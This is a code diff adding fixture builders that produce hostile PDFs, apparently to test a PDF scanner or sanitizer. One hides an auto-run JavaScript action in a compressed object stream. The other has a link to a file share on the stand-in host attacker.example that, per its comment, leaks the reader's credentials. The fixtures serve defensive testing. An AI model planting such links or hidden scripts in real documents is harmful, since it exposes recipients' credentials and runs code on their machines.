@@ -314,3 +314,31 @@ export function pdfWithPackedObjects(
   chunks.push(part(`startxref\n${xrefOffset}\n%%EOF\n`));
   return Buffer.concat(chunks);
 }
+
+const CATALOG_PAGES = [
+  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
+];
+
+/** A PDF 1.5 that runs a script on opening, packed in an object stream with a PNG predictor. */
+export function pdfWithPackedScript(): Buffer {
+  return pdfWithPackedObjects([
+    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+    ...CATALOG_PAGES,
+    "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
+    "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] >>",
+  ]);
+}
+
+/** A PDF whose link opens a file on a remote share (and leaks the reader's credentials to it). */
+export function pdfWithRemoteShareLink(): Buffer {
+  return pdfFromObjects([
+    [1, "<< /Type /Catalog /Pages 2 0 R >>"],
+    [2, CATALOG_PAGES[0]!],
+    [3, CATALOG_PAGES[1]!],
+    [
+      5,
+      "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (file://attacker.example/share/cv.docx) >> >>",
+    ],
+  ]);
+}
